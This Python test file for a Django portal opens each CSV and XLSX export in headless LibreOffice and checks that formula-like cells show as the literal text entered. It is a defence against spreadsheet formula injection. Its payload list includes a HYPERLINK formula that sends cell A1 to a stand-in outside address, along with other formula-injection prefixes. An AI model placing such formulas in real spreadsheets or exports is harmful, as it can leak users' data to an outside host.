"""Every export opened in a real spreadsheet program: LibreOffice Calc (Debian's, headless) converts each
CSV and XLSX file the portal writes to CSV, reading formulas in CSV files as it does when a user
opens one, and every formula-like cell must come back as the text entered (from CSV with its quote,
from XLSX exactly), never as what the formula works out to.

All the files go through two LibreOffice runs (one for the CSV files, one for the XLSX), each with a
throwaway profile so that parallel runs do not clash. Skipped where LibreOffice is missing, except
in CI (MSONET_REQUIRE_LIBREOFFICE=1), where it fails.
"""

import csv
import io
import os
import shutil
import subprocess
import time

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from imports.models import ExportJob
from officers.models import Appointment
from tests.factories import (
    AppointmentFactory,
    AttendanceFactory,
    MeetingFactory,
    MembershipFactory,
    OrganisationFactory,
    PersonFactory,
)
from tests.msonet.test_admin_exports import ADMIN_EXPORTS, admin_export

pytestmark = pytest.mark.django_db

# Text starting with each prefix a spreadsheet reads as a formula, and a link that would send the
# cell A1 to an outside address.
PAYLOADS = {
    "equals": "=2+2",
    "hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "plus": "+2+2",
    "minus": "-2+2",
    "at": "@SUM(1+1)",
    "tab": "\t=2+2",
    "carriage-return": "\r=2+2",
    "full-width-equals": "\uff1d2+2",
    "full-width-plus": "\uff0b2+2",
    "full-width-minus": "\uff0d2+2",
    "full-width-at": "\uff20SUM(1+1)",
}
# UTF-8, comma-separated, double quotes; the 13th token asks LibreOffice to evaluate formulas in a
# CSV file, as it does by default when a user opens one.
CSV_IN = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
CSV_OUT = "csv:Text - txt - csv (StarCalc):44,34,76,1"
CONVERSION_TIMEOUT = 300
# How a formula-like text starts, by this test's own list rather than the writer's.
FORMULA_STARTS = tuple({payload[0] for payload in PAYLOADS.values()})


@pytest.fixture
def soffice():
    path = shutil.which("soffice")
    if path is None:
        if os.environ.get("MSONET_REQUIRE_LIBREOFFICE"):
            pytest.fail("soffice is missing: install Debian's libreoffice-calc package")
        pytest.skip("soffice is missing: install Debian's libreoffice-calc package to open the exports in it")
    return path


@pytest.fixture
def meeting(world):
    """For each payload: an organisation in London named with it, with its board director, named MSO
    (first name, job title and work email: a name loses a leading tab or line break) and a member of
    the London network who attended `meeting` all the same."""
    meeting = MeetingFactory(network=world.network_a, title=PAYLOADS["hyperlink"])
    for index, payload in enumerate(PAYLOADS.values()):
        organisation = OrganisationFactory(
            ods_code=f"RZZ{index:02d}", region=world.london, name=payload, board_director_name=payload
        )
        person = PersonFactory(
            work_email=f"{payload}.{index}@nhs.net", first_name=payload, last_name="Zulu", job_title=payload
        )
        AppointmentFactory(person=person, organisation=organisation, role=Appointment.Role.MSO)
        MembershipFactory(person=person, network=world.network_a)
        AttendanceFactory(meeting=meeting, person=person)
    return meeting


def download(response) -> bytes:
    assert response.status_code == 200, response
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def bulk_export(client, dataset: str, file_format: str) -> bytes:
    return download(client.post(reverse("imports:export", args=[dataset, file_format])))


def background_export(client, settings, on_commit, dataset: str, file_format: str) -> bytes:
    """A large export, written by the Celery task (run eagerly here) and downloaded from its page."""
    rows, settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_BACKGROUND_ROWS, 0
    with on_commit(execute=True):
        client.post(reverse("imports:export", args=[dataset, file_format]))
    settings.EXPORT_BACKGROUND_ROWS = rows
    job = ExportJob.objects.latest("pk")
    assert (job.in_background, job.status) == (True, ExportJob.Status.DONE)
    return download(client.get(reverse("imports:export-download", args=[job.pk])))


def every_export(client, settings, on_commit, world, meeting, file_format: str) -> dict[str, bytes]:
    """Each file the portal writes, by a name for the failure message."""
    return {
        **{f"admin-{label}": admin_export(client, label, file_format) for label in ADMIN_EXPORTS},
        **{
            f"bulk-{dataset}": bulk_export(client, dataset, file_format)
            for dataset in ("organisations", "people", "memberships")
        },
        "background-people": background_export(client, settings, on_commit, "people", file_format),
        "network-membership": download(
            client.get(reverse("directory:membership-export", args=[world.network_a.slug, file_format]))
        ),
        "meeting-attendance": download(
            client.get(reverse("meetings:attendance-export", args=[meeting.pk, file_format]))
        ),
    }


def convert(soffice, paths, outdir, profile, infilter=None) -> float:
    """Convert `paths` to CSV in `outdir` in one LibreOffice run; the seconds it took."""
    command = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", CSV_OUT, "--outdir", str(outdir), *map(str, paths)]
    started = time.monotonic()
    subprocess.run(command, check=True, capture_output=True, timeout=CONVERSION_TIMEOUT)
    return time.monotonic() - started


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def one_line_end(text: str) -> str:
    """A spreadsheet keeps a line break in a cell as a line feed, whatever the file had."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def entered_cells(data: bytes, file_format: str):
    """(row, column, the text as entered, the text LibreOffice should show) for every formula-like cell
    of a CSV file and every text cell of an XLSX file (where a carriage return reads as a line feed)."""
    if file_format == "csv":
        for row_index, row in enumerate(read_csv(data)):
            for column, text in enumerate(row):
                entered = text[1:] if text.startswith("'") else text
                if entered.startswith(FORMULA_STARTS):
                    yield row_index, column, entered, "'" + entered
    else:
        for row_index, row in enumerate(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)):
            for column, value in enumerate(row):
                if isinstance(value, str):
                    yield row_index, column, value, value


def control_files(directory) -> tuple:
    """A CSV and an XLSX file written without the portal's writer, whose formulas LibreOffice works out:
    proof that the conversions below would show an evaluated formula."""
    csv_path, xlsx_path = directory / "control-csv.csv", directory / "control-xlsx.xlsx"
    with csv_path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Name"], [PAYLOADS["equals"]], [PAYLOADS["hyperlink"]]])
    workbook = Workbook()
    for value in ["Name", PAYLOADS["equals"], PAYLOADS["hyperlink"]]:
        workbook.active.append([value])
    workbook.save(xlsx_path)
    return csv_path, xlsx_path


def test_libreoffice_opens_every_export_with_every_formula_as_the_text_entered(
    client, settings, django_capture_on_commit_callbacks, world, meeting, soffice, tmp_path
):
    client.force_login(world.lead)
    files = tmp_path / "exports"
    files.mkdir()
    exported = {}
    for file_format in ("csv", "xlsx"):
        for name, data in every_export(
            client, settings, django_capture_on_commit_callbacks, world, meeting, file_format
        ).items():
            path = files / f"{name}-{file_format}.{file_format}"
            path.write_bytes(data)
            exported[path.stem] = (data, file_format)
    control_csv, control_xlsx = control_files(files)

    outdir = tmp_path / "converted"
    csv_seconds = convert(soffice, [*sorted(files.glob("*.csv"))], outdir, tmp_path / "lo-profile-csv", infilter=CSV_IN)
    xlsx_seconds = convert(soffice, [*sorted(files.glob("*.xlsx"))], outdir, tmp_path / "lo-profile-xlsx")
    print(
        f"LibreOffice converted {len(exported) // 2 + 1} CSV files in {csv_seconds:.1f}s "
        f"and {len(exported) // 2 + 1} XLSX files in {xlsx_seconds:.1f}s"
    )

    def shown(stem: str) -> list[list[str]]:
        return read_csv((outdir / f"{stem}.csv").read_bytes())

    # A formula written without the writer is worked out: 4, and the link's text.
    assert [row[0] for row in shown(control_csv.stem)] == ["Name", "4", "click"]
    assert [row[0] for row in shown(control_xlsx.stem)] == ["Name", "4", "click"]

    problems = []
    for stem, (data, file_format) in exported.items():
        cells = shown(stem)
        found = set()
        for row, column, entered, expected in entered_cells(data, file_format):
            found.update(
                name for name, payload in PAYLOADS.items() if one_line_end(entered).startswith(one_line_end(payload))
            )
            got = cells[row][column] if row < len(cells) and column < len(cells[row]) else None
            if got is None or one_line_end(got) != one_line_end(expected):
                problems.append(f"{stem}: row {row + 1}, column {column + 1}: {expected!r} shown as {got!r}")
        problems += [f"{stem}: no cell holds the {name} payload" for name in PAYLOADS if name not in found]
    assert not problems, "\n".join(problems)
